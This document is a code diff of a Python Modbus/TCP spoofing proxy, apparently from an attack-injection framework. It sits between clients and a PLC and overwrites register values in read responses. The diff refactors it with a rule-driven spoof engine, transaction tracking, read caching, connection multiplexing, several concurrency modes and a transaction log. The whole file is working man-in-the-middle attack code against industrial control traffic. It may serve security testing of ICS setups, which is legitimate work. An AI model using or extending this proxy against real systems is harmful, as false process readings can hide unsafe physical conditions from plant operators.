@@ -1,192 +1,405 @@
 # injector/attacks/modbus_proxy_spoof.py
 
+import itertools
 import socket
 import threading
 import time
+import weakref
+from collections import OrderedDict
 from dataclasses import dataclass, field
-from typing import Dict, Optional, Tuple, List
+from typing import Any, Dict, Optional, Sequence, Tuple, List
 
+import numpy as np
+
+from injector.attacks.proxy_rules import SpoofEngine, get_spoof_engine
+from injector.attacks.proxy_stats import ConnStats, DirStats
+from injector.core import mbap
 from injector.core.config import PlcConfig
 from injector.core.logging_setup import logging
+from injector.core.mbap import Buffer, FrameView
+from injector.core.txlog import TxLogWriter, close_txlog, get_txlog, open_txlog
 
 log = logging.getLogger(__name__)
 
 # ----------------------------
-# Modbus/TCP helpers (MBAP)
+# Spoof rules / state
 # ----------------------------
 
-def _u16(b: bytes) -> int:
-    return int.from_bytes(b, byteorder="big", signed=False)
+PENDING_TTL_S = 5.0
+MAX_PENDING = 4096        # twardy limit na połączenie (przestrzeń TID to 65536)
+ALL_FUNCS = range(256)    # z txlog dekodujemy wszystkie ramki, nie tylko FC z reguł
 
-def _p16(n: int) -> bytes:
-    return int(n).to_bytes(2, byteorder="big", signed=False)
+_CONN_IDS = itertools.count(1)
 
-def parse_mbap_frame(buf: bytearray) -> Optional[bytes]:
-    """
-    Z TCP streamu wycina 1 kompletną ramkę Modbus/TCP.
-    Zwraca bytes ramki lub None jeśli brak kompletu.
-
-    MBAP:
-      TID(2) PID(2) LEN(2) UID(1) + PDU(...)
-    LEN = liczba bajtów: UID + PDU
-    Długość całej ramki w bajtach na drucie = 6 + LEN
-    """
-    if len(buf) < 7:
-        return None
-    length_field = _u16(buf[4:6])
-    total_len = 6 + length_field
-    if total_len <= 0:
-        del buf[0:1]
-        return None
-    if len(buf) < total_len:
-        return None
-    frame = bytes(buf[:total_len])
-    del buf[:total_len]
-    return frame
-
-def mbap_parts(frame: bytes) -> Tuple[int, int, int, int, bytes]:
-    """
-    Zwraca: tid, pid, length, unit_id, pdu
-    """
-    tid = _u16(frame[0:2])
-    pid = _u16(frame[2:4])
-    length = _u16(frame[4:6])
-    unit_id = frame[6]
-    pdu = frame[7:]
-    # length powinien być 1 + len(pdu)
-    return tid, pid, length, unit_id, pdu
-
-
-# ----------------------------
-# Spoof rules / state
-# ----------------------------
 
 @dataclass
 class PendingReq:
     func: int
     start_addr: int
     count: int
-    ts: float = field(default_factory=time.time)
+    ts: float = field(default_factory=time.monotonic)
+    size: int = 0             # długość ramki requestu (txlog)
+
+
+_COUNTER_FIELDS = ("matched", "orphaned", "evicted", "unmatched_responses", "collisions")
+
+
+class TxnCounters:
+    """
+    Liczniki transakcji proxy (wszystkie połączenia):
+      matched             - odpowiedź dopasowana do requestu,
+      orphaned            - request bez odpowiedzi w PENDING_TTL_S,
+      evicted             - request wyrzucony przez MAX_PENDING,
+      unmatched_responses - odpowiedź bez requestu w tabeli,
+      collisions          - nowy request z TID, który wciąż czeka na odpowiedź.
+    Połączenia liczą lokalnie (pod własnym lockiem), tutaj tylko sumujemy -
+    bez globalnego locka na każdą ramkę.
+    """
+
+    def __init__(self):
+        self._lock = threading.Lock()
+        self._live: "weakref.WeakSet[ConnState]" = weakref.WeakSet()
+        self._closed = dict.fromkeys(_COUNTER_FIELDS, 0)
+
+    def attach(self, state: "ConnState") -> None:
+        with self._lock:
+            self._live.add(state)
+
+    def detach(self, state: "ConnState") -> None:
+        with self._lock:
+            if state in self._live:
+                self._live.discard(state)
+                for k, v in state.counters().items():
+                    self._closed[k] += v
+
+    def snapshot(self) -> Dict[str, int]:
+        with self._lock:
+            out = dict(self._closed)
+            live = list(self._live)
+        pending = 0
+        for state in live:
+            for k, v in state.counters().items():
+                out[k] += v
+            pending += len(state.pending)
+        out["pending"] = pending
+        out["connections"] = len(live)
+        return out
+
+    def reset(self) -> None:
+        with self._lock:
+            self._closed = dict.fromkeys(_COUNTER_FIELDS, 0)
+
+
+_TXN_COUNTERS: Optional[TxnCounters] = None
+_TXN_LOCK = threading.Lock()
+
+
+def get_txn_counters() -> TxnCounters:
+    global _TXN_COUNTERS
+    with _TXN_LOCK:
+        if _TXN_COUNTERS is None:
+            _TXN_COUNTERS = TxnCounters()
+        return _TXN_COUNTERS
+
 
-@dataclass
 class ConnState:
     """
     Stan per-connection: mapujemy Transaction ID -> request metadata.
+
+    pending to OrderedDict w kolejności wstawiania = kolejności ts (monotonic),
+    więc wygasanie sprawdza tylko najstarsze wpisy z początku - put/pop/expiry
+    są O(1) (zamortyzowane), a nie O(pending) jak przy przeglądaniu całej mapy.
+    Kolizja TID usuwa stary wpis przed wstawieniem nowego, więc kolejność zostaje.
     """
-    lock: threading.Lock = field(default_factory=threading.Lock)
-    pending: Dict[int, PendingReq] = field(default_factory=dict)
+
+    def __init__(self, ttl_s: float = PENDING_TTL_S, max_pending: int = MAX_PENDING,
+                 registry: Optional[TxnCounters] = None):
+        self.lock = threading.Lock()
+        self.pending: "OrderedDict[int, PendingReq]" = OrderedDict()
+        self.ttl_s = ttl_s
+        self.max_pending = max_pending
+        self.matched = 0
+        self.orphaned = 0
+        self.evicted = 0
+        self.unmatched_responses = 0
+        self.collisions = 0
+        self.conn_id = next(_CONN_IDS)
+        self._registry = registry or get_txn_counters()
+        self._registry.attach(self)
+
+    def _expire(self, now: float) -> None:
+        pending = self.pending
+        limit = now - self.ttl_s
+        while pending:
+            tid, req = next(iter(pending.items()))
+            if req.ts >= limit:
+                return
+            del pending[tid]
+            self.orphaned += 1
 
     def put(self, tid: int, req: PendingReq) -> None:
         with self.lock:
+            self._expire(req.ts)
+            if self.pending.pop(tid, None) is not None:
+                self.collisions += 1
+            elif len(self.pending) >= self.max_pending:
+                self.pending.popitem(last=False)
+                self.evicted += 1
             self.pending[tid] = req
-            now = time.time()
-            for k in list(self.pending.keys()):
-                if now - self.pending[k].ts > 5.0:
-                    self.pending.pop(k, None)
 
     def pop(self, tid: int) -> Optional[PendingReq]:
         with self.lock:
-            return self.pending.pop(tid, None)
+            req = self.pending.pop(tid, None)
+            if req is None:
+                self.unmatched_responses += 1
+            else:
+                self.matched += 1
+            return req
+
+    def counters(self) -> Dict[str, int]:
+        return {k: getattr(self, k) for k in _COUNTER_FIELDS}
+
+    def close(self) -> None:
+        """Koniec połączenia: niedopasowane requesty liczymy jako orphaned."""
+        with self.lock:
+            self.orphaned += len(self.pending)
+            self.pending.clear()
+        self._registry.detach(self)
 
 
-def should_spoof_register(cfg: PlcConfig, addr: int) -> bool:
-    """
-    na razie prosta wersja: spoofujemy HR[0..9] jako przykład.
-    """
-    # PRZYKŁAD: spoof tylko dla zakresu HMI
-    return 0 <= addr <= 9
+# ----------------------------
+# Shield mode: cache odczytów
+# ----------------------------
+
+ReadKey = Tuple[int, int, int, int]      # (unit_id, func, start, count)
+
+
+class _ShieldBank:
+    """Wartości rejestrów jednego (unit_id, FC) w porządku z drutu + czasy ważności."""
+
+    def __init__(self):
+        self.data = bytearray(2 * 65536)
+        self.expires = np.zeros(65536, dtype=np.float64)
+        self.invalidated_at = np.zeros(65536, dtype=np.float64)
 
-def spoof_value_for(cfg: PlcConfig, addr: int, real_value: int) -> int:
+
+class ShieldCache:
     """
-    Generator wartości spoofowanych.
-    Wersja prosta: np. "odwróć" albo dodaj offset.
+    Cache odpowiedzi FC3/FC4 per rejestr z krótkim TTL ("shield mode").
+      - lookup(): zakres w całości świeży -> dane z cache, bez zapytania do PLC,
+      - join(): identyczny odczyt już w locie -> klient dopisuje się jako waiter
+        i dostaje kopię tej samej odpowiedzi (jedno zapytanie do PLC),
+      - invalidate(): zapis FC6/FC16 przez proxy unieważnia zakres FC3;
+        odpowiedź na odczyt wysłany przed zapisem nie trafia już do cache,
+        a nachodzące na zakres odczyty w locie są odpinane - późniejsze
+        odczyty nie dołączą do nich, tylko idą do PLC (po zapisie).
+    Odczyt-lider, który nie dostanie odpowiedzi (zerwany upstream - owner,
+    albo PENDING_TTL_S jak w ConnState), zwraca swoich waiterów przez
+    drop_owner() / expire() - wołający musi im odpowiedzieć sam.
+    Używany z jednej pętli asyncio (MuxModbusProxy) - bez locków.
     """
-    # przykład: przesunięcie o +1000 modulo 65536
-    return (real_value + 1000) & 0xFFFF
+
+    def __init__(self, ttl_s: float):
+        self.ttl_s = ttl_s
+        self._banks: Dict[Tuple[int, int], _ShieldBank] = {}
+        # kolejność wstawiania = kolejność ts (jak ConnState.pending) -> expire() od początku
+        self._inflight: Dict[ReadKey, Tuple[float, Any, List[Any]]] = {}
+        # liderzy odpięci przez invalidate() - czekają na odpowiedź, ale nikt już do nich nie dołącza
+        self._detached: List[Tuple[ReadKey, Tuple[float, Any, List[Any]]]] = []
+        self.reads = 0
+        self.hits = 0
+        self.coalesced = 0
+        self.forwarded = 0
+        self.invalidations = 0
+        self.failed = 0           # waiterzy, których lider nie dostał odpowiedzi
+
+    def _bank(self, unit_id: int, func: int) -> _ShieldBank:
+        bank = self._banks.get((unit_id, func))
+        if bank is None:
+            bank = self._banks[(unit_id, func)] = _ShieldBank()
+        return bank
+
+    def lookup(self, key: ReadKey, now: float) -> Optional[bytes]:
+        unit_id, func, start, count = key
+        self.reads += 1
+        bank = self._banks.get((unit_id, func))
+        if bank is None or bank.expires[start:start + count].min() <= now:
+            return None
+        self.hits += 1
+        return bytes(bank.data[2 * start:2 * (start + count)])
+
+    def join(self, key: ReadKey, waiter: Any, now: float, owner: Any = None) -> bool:
+        """
+        True = odczyt w locie, waiter dopisany; False = wołający wysyła zapytanie
+        do PLC (owner - np. upstream, którym idzie - do drop_owner()).
+        """
+        entry = self._inflight.get(key)
+        if entry is not None and now - entry[0] < PENDING_TTL_S:
+            entry[2].append(waiter)
+            self.coalesced += 1
+            return True
+        if entry is not None:
+            # przeterminowany lider bez expire() - waiterów nie gubimy, trafią do nowego
+            del self._inflight[key]
+            self._inflight[key] = (now, owner, entry[2])
+        else:
+            self._inflight[key] = (now, owner, [])
+        self.forwarded += 1
+        return False
+
+    def complete(self, key: ReadKey, sent_ts: float, data: Optional[Buffer], now: float,
+                 owner: Any = None) -> List[Any]:
+        """
+        Odpowiedź na odczyt-lidera: zapis do cache (gdy poprawna) i lista waiterów.
+        owner (upstream, którym przyszła odpowiedź) rozróżnia lidera odpiętego przez
+        invalidate() od nowego lidera z tym samym kluczem; upstream odpowiada po kolei,
+        więc odpięty (starszy) lider z tym samym ownerem idzie pierwszy.
+        """
+        for i, (k, entry) in enumerate(self._detached):
+            if k == key and (owner is None or entry[1] is owner):
+                del self._detached[i]
+                return entry[2]      # odczyt sprzed zapisu - do cache nie trafia
+
+        entry = self._inflight.pop(key, None)
+        unit_id, func, start, count = key
+        if data is not None and len(data) == 2 * count:
+            bank = self._bank(unit_id, func)
+            end = start + count
+            if bank.invalidated_at[start:end].max() < sent_ts:
+                bank.data[2 * start:2 * end] = data
+                bank.expires[start:end] = now + self.ttl_s
+        return entry[2] if entry is not None else []
+
+    def expire(self, now: float) -> List[Tuple[ReadKey, List[Any]]]:
+        """Odczyty w locie starsze niż PENDING_TTL_S: usunięte, zwraca (klucz, waiterzy)."""
+        inflight = self._inflight
+        limit = now - PENDING_TTL_S
+        out: List[Tuple[ReadKey, List[Any]]] = []
+        while inflight:
+            key, (ts, _, waiters) = next(iter(inflight.items()))
+            if ts >= limit:
+                break
+            del inflight[key]
+            if waiters:
+                self.failed += len(waiters)
+                out.append((key, waiters))
+        if self._detached:
+            keep = []
+            for key, entry in self._detached:
+                if entry[0] >= limit:
+                    keep.append((key, entry))
+                elif entry[2]:
+                    self.failed += len(entry[2])
+                    out.append((key, entry[2]))
+            self._detached = keep
+        return out
+
+    def drop_owner(self, owner: Any) -> List[Tuple[ReadKey, List[Any]]]:
+        """Odczyty wysłane przez owner (zerwany upstream): usunięte, zwraca (klucz, waiterzy)."""
+        entries = [(k, self._inflight.pop(k)) for k in
+                   [k for k, (_, o, _) in self._inflight.items() if o is owner]]
+        entries += [(k, e) for k, e in self._detached if e[1] is owner]
+        self._detached = [(k, e) for k, e in self._detached if e[1] is not owner]
+        out: List[Tuple[ReadKey, List[Any]]] = []
+        for key, (_, _, waiters) in entries:
+            if waiters:
+                self.failed += len(waiters)
+                out.append((key, waiters))
+        return out
+
+    def invalidate(self, unit_id: int, start: int, count: int, now: float) -> None:
+        bank = self._bank(unit_id, 3)
+        end = min(start + count, 65536)
+        bank.expires[start:end] = 0.0
+        bank.invalidated_at[start:end] = now
+        self.invalidations += 1
+        # odczyty FC3 w locie nachodzące na zapis: nowe odczyty mają zobaczyć zapisaną wartość
+        stale = [k for k in self._inflight
+                 if k[0] == unit_id and k[1] == 3 and k[2] < end and start < k[2] + k[3]]
+        for key in stale:
+            self._detached.append((key, self._inflight.pop(key)))
+
+    def stats(self) -> Dict[str, Any]:
+        saved = self.hits + self.coalesced
+        return {
+            "ttl_ms": self.ttl_s * 1000.0,
+            "reads": self.reads,
+            "hits": self.hits,
+            "coalesced": self.coalesced,
+            "forwarded": self.forwarded,
+            "invalidations": self.invalidations,
+            "failed": self.failed,
+            "hit_rate": saved / self.reads if self.reads else 0.0,
+            "upstream_saved": saved,
+            "inflight": len(self._inflight) + len(self._detached),
+        }
 
 
 # ----------------------------
 # Core spoofing logic
 # ----------------------------
 
-def maybe_record_request(state: ConnState, frame: bytes) -> None:
+def maybe_record_request(state: ConnState, frame: FrameView, funcs: Sequence[int] = (3,)) -> None:
     """
-    Interesuje nas FC3 request:
-      PDU: func(1)=3, start(2), count(2)
+    Interesuje nas FC3/FC4 request (funcs = FC, dla których są reguły,
+    albo ALL_FUNCS gdy działa txlog):
+      PDU: func(1), start(2), count(2)
     """
-    tid, pid, length, unit_id, pdu = mbap_parts(frame)
-    if not pdu:
+    if frame.func not in funcs:
         return
-    func = pdu[0]
-    if func != 3:
-        return
-    if len(pdu) < 5:
-        return
-    start = _u16(pdu[1:3])
-    count = _u16(pdu[3:5])
-    state.put(tid, PendingReq(func=func, start_addr=start, count=count))
+    rng = frame.request_range()
+    func, start, count = rng if rng is not None else (frame.func, 0, 0)
+    state.put(frame.tid, PendingReq(func=func, start_addr=start, count=count, size=frame.total_len))
 
-def maybe_spoof_response(cfg: PlcConfig, state: ConnState, frame: bytes) -> bytes:
+def maybe_spoof_response(
+    cfg: PlcConfig,
+    state: ConnState,
+    frame: FrameView,
+    engine: Optional[SpoofEngine] = None,
+    txlog: Optional[TxLogWriter] = None,
+) -> int:
     """
-    Spoofujemy FC3 response:
-      PDU: func(1)=3, byte_count(1), data(2*count)
-    count znamy z requestu (mapa tid->PendingReq).
+    Spoofujemy FC3/FC4 response:
+      PDU: func(1), byte_count(1), data(2*count)
+    start i count znamy z requestu (mapa tid->PendingReq).
+    Rejestry są nadpisywane w miejscu w frame.buf (bytearray) regułami
+    z proxy_rules - długość ramki się nie zmienia, więc nie trzeba jej składać od nowa.
+    Z txlog każda dopasowana para request/response (też inne FC i wyjątki)
+    trafia do logu transakcji.
+    Zwraca liczbę podmienionych rejestrów.
     """
-    tid, pid, length, unit_id, pdu = mbap_parts(frame)
-    if not pdu:
-        return frame
-
-    func = pdu[0]
-    # Exception response: func | 0x80, code(1)
-    if func & 0x80:
-        return frame
-
-    if func != 3:
-        return frame
+    # Exception response (func | 0x80) i inne FC przepuszczamy bez zmian
+    if txlog is None and frame.func not in (3, 4):
+        return 0
 
-    req = state.pop(tid)
+    req = state.pop(frame.tid)
     if req is None:
         # nie znaleźliśmy kontekstu (np. zgubione pakiety) -> nie psuj
-        return frame
-
-    if len(pdu) < 2:
-        return frame
-
-    byte_count = pdu[1]
-    data = bytearray(pdu[2:])
-
-    # spodziewane 2*req.count, ale nie ufamy w 100%
-    expected = req.count * 2
-    if byte_count != len(data) or len(data) < 2:
-        return frame
-
-    # modyfikujemy wybrane rejestry w odpowiedzi
-    for i in range(0, min(len(data), expected), 2):
-        reg_index = i // 2
-        addr = req.start_addr + reg_index
-        if should_spoof_register(cfg, addr):
-            real_val = _u16(data[i:i+2])
-            fake_val = spoof_value_for(cfg, addr, real_val)
-            data[i:i+2] = _p16(fake_val)
-
-    # składamy PDU z powrotem
-    new_pdu = bytes([3, byte_count]) + bytes(data)
-
-    # długość MBAP musi być spójna: LEN = 1 + len(PDU)
-    new_length = 1 + len(new_pdu)
-    new_frame = bytearray()
-    new_frame += _p16(tid)
-    new_frame += _p16(pid)
-    new_frame += _p16(new_length)
-    new_frame += bytes([unit_id])
-    new_frame += new_pdu
-    return bytes(new_frame)
+        return 0
+
+    spoofed = 0
+    data_off = frame.register_data_offset() if req.func == frame.func else None
+    if data_off is not None:
+        if engine is None:
+            engine = get_spoof_engine()
+        # spodziewane req.count rejestrów, ale nie ufamy w 100%
+        count = min(frame.register_count(), req.count)
+        spoofed = engine.apply(frame.buf, data_off, count, frame.unit_id, frame.func, req.start_addr)
+    if txlog is not None:
+        txlog.record_pair(state.conn_id, frame.tid, frame.unit_id, req, frame.func,
+                          frame.exception_code, frame.total_len, spoofed)
+    return spoofed
 
 
 # ----------------------------
 # TCP forwarding with framing
 # ----------------------------
 
+PROXY_MODES = ("asyncio", "threads", "processes", "mux")
+
+RX_BUFFER_SIZE = 64 * 1024   # >> max ramka Modbus/TCP (260 B)
+
+
 def forward_stream(
     *,
     src: socket.socket,
@@ -197,46 +410,84 @@ def forward_stream(
     state: ConnState,
     record_requests: bool,
     spoof_responses: bool,
+    engine: Optional[SpoofEngine] = None,
+    stats: Optional[DirStats] = None,
 ) -> None:
     """
-    direction tylko do logów.
+    direction tylko do logów, stats - liczniki tego kierunku (ConnStats.c2p / p2c).
     record_requests=True w kierunku klient->PLC
     spoof_responses=True w kierunku PLC->klient
+
+    Odbiór: prealokowany bufor + recv_into (bez bytes na każdy recv), ramki
+    wyznaczane na memoryview bez kopiowania. Dekodowane są tylko ramki z FC,
+    dla których są reguły spoofingu (zapis requestu / spoof odpowiedzi) -
+    reszta idzie ścieżką pass-through.
+    Wszystkie kompletne ramki z jednego recv wysyłane jednym sendall.
+    Niepełna ramka z końca bufora jest przesuwana na początek (max 259 B).
     """
-    buf = bytearray()
+    rx = bytearray(RX_BUFFER_SIZE)
+    view = memoryview(rx)
+    if engine is None:
+        engine = get_spoof_engine()
+    txlog = get_txlog()
+    if record_requests or spoof_responses:
+        funcs = ALL_FUNCS if txlog is not None else engine.functions
+    else:
+        funcs = ()
+    if stats is None:
+        stats = DirStats()
+    wpos = 0   # rx[:wpos] = odebrane, jeszcze niewysłane bajty
 
-    while not stop_event.is_set():
-        try:
-            chunk = src.recv(4096)
-            if not chunk:
-                break
-            buf.extend(chunk)
-        except socket.timeout:
-            continue
-        except OSError:
-            break
-
-        while True:
-            frame = parse_mbap_frame(buf)
-            if frame is None:
+    try:
+        while not stop_event.is_set():
+            if wpos == RX_BUFFER_SIZE:
+                # bufor pełny samą niepełną ramką - nie powinno się zdarzyć (ramka <= 260 B)
+                log.warning("[%s] oversized frame, dropping connection", direction)
+                stats.parse_errors += 1
+                return
+            try:
+                n = src.recv_into(view[wpos:])
+                if not n:
+                    break
+            except socket.timeout:
+                continue
+            except OSError:
                 break
+            t_rx = time.perf_counter()
+            wpos += n
 
-            if record_requests:
-                try:
-                    maybe_record_request(state, frame)
-                except Exception as e:
-                    log.debug("[%s] record request error: %r", direction, e)
+            consumed, offsets, n_frames = mbap.scan_frames(view, 0, wpos, funcs=funcs)
+            if not consumed:
+                continue
 
-            if spoof_responses:
-                try:
-                    frame = maybe_spoof_response(cfg, state, frame)
-                except Exception as e:
-                    log.debug("[%s] spoof response error: %r", direction, e)
+            for off in offsets:
+                frame = FrameView(view, off)
+                if record_requests:
+                    try:
+                        maybe_record_request(state, frame, funcs)
+                    except Exception as e:
+                        stats.parse_errors += 1
+                        log.debug("[%s] record request error: %r", direction, e)
+                if spoof_responses:
+                    try:
+                        stats.spoofed_registers += maybe_spoof_response(cfg, state, frame, engine, txlog)
+                    except Exception as e:
+                        stats.parse_errors += 1
+                        log.debug("[%s] spoof response error: %r", direction, e)
 
             try:
-                dst.sendall(frame)
+                dst.sendall(view[:consumed])
             except OSError:
                 return
+            stats.batch(n_frames, consumed, t_rx, wpos - consumed)
+
+            if consumed == wpos:
+                wpos = 0
+            else:
+                rx[:wpos - consumed] = rx[consumed:wpos]
+                wpos -= consumed
+    finally:
+        view.release()
 
 
 def handle_connection(
@@ -244,14 +495,21 @@ def handle_connection(
     plc_addr: Tuple[str, int],
     stop_event: threading.Event,
     cfg: PlcConfig,
+    engine: Optional[SpoofEngine] = None,
 ):
     plc_sock: Optional[socket.socket] = None
     state = ConnState()
+    try:
+        peer = client_sock.getpeername()
+    except OSError:
+        peer = None
+    stats = ConnStats(state.conn_id, peer)
 
     try:
         plc_sock = socket.create_connection(plc_addr, timeout=3.0)
         client_sock.settimeout(1.0)
         plc_sock.settimeout(1.0)
+        stats.bind(client_sock, plc_sock)
 
         t1 = threading.Thread(
             target=forward_stream,
@@ -264,6 +522,8 @@ def handle_connection(
                 state=state,
                 record_requests=True,
                 spoof_responses=False,
+                engine=engine,
+                stats=stats.c2p,
             ),
             daemon=True,
         )
@@ -278,6 +538,8 @@ def handle_connection(
                 state=state,
                 record_requests=False,
                 spoof_responses=True,
+                engine=engine,
+                stats=stats.p2c,
             ),
             daemon=True,
         )
@@ -290,6 +552,8 @@ def handle_connection(
     except Exception as e:
         log.debug("Proxy connection handler finished with exception: %r", e)
     finally:
+        state.close()
+        stats.close()
         try:
             client_sock.close()
         except Exception:
@@ -307,8 +571,64 @@ def run_modbus_proxy(
     listen_host: str,
     listen_port: int,
     ready_event: Optional[threading.Event] = None,
+    mode: str = "asyncio",
+    workers: int = 0,
+    upstreams: int = 2,
+    shield_ttl_ms: float = 0.0,
+    txlog_dir: Optional[str] = None,
+):
+    """
+    mode="asyncio"   -> AsyncModbusProxy (wszystkie połączenia na jednej pętli asyncio),
+    mode="threads"   -> klasycznie: wątek na połączenie + 2 wątki forward_stream,
+    mode="processes" -> ProxySupervisor: workers procesów AsyncModbusProxy na jednym
+                        porcie (SO_REUSEPORT), workers=0 -> liczba CPU,
+    mode="mux"       -> MuxModbusProxy: klienci dzielą upstreams połączeń do PLC
+                        (remapowanie Transaction ID); shield_ttl_ms > 0 włącza
+                        shield mode (ShieldCache dla odczytów FC3/FC4).
+    txlog_dir -> binarny log transakcji (injector.core.txlog) w tym katalogu.
+    """
+    if shield_ttl_ms > 0 and mode != "mux":
+        raise ValueError("Shield mode requires proxy mode 'mux' (shared upstream connections)")
+    if mode == "processes":
+        from injector.attacks.proxy_multi import ProxySupervisor
+        ProxySupervisor(cfg, listen_host, listen_port, workers=workers,
+                        txlog_dir=txlog_dir).run(stop_event, ready_event)
+        return
+    if txlog_dir:
+        open_txlog(txlog_dir)
+    try:
+        _run_proxy(cfg, stop_event, listen_host, listen_port, ready_event, mode, upstreams, shield_ttl_ms)
+    finally:
+        if txlog_dir:
+            close_txlog()
+
+
+def _run_proxy(
+    cfg: PlcConfig,
+    stop_event: threading.Event,
+    listen_host: str,
+    listen_port: int,
+    ready_event: Optional[threading.Event],
+    mode: str,
+    upstreams: int,
+    shield_ttl_ms: float,
 ):
+    if mode == "asyncio":
+        from injector.attacks.proxy_async import AsyncModbusProxy
+        AsyncModbusProxy(cfg, listen_host, listen_port).run(stop_event, ready_event)
+        return
+    if mode == "mux":
+        from injector.attacks.proxy_mux import MuxModbusProxy
+        MuxModbusProxy(
+            cfg, listen_host, listen_port, upstreams=upstreams, shield_ttl_s=shield_ttl_ms / 1000.0
+        ).run(stop_event, ready_event)
+        return
+    if mode != "threads":
+        raise ValueError(f"Unknown proxy mode: {mode}")
+
     plc_addr = (cfg.plc_host, cfg.plc_port)
+    # reguły kompilowane raz, przed pierwszym połączeniem
+    engine = get_spoof_engine()
 
     srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
@@ -336,7 +656,7 @@ def run_modbus_proxy(
             log.info("New client for spoof proxy: %s", addr)
             t = threading.Thread(
                 target=handle_connection,
-                args=(client_sock, plc_addr, stop_event, cfg),
+                args=(client_sock, plc_addr, stop_event, cfg, engine),
                 daemon=True,
             )
             t.start()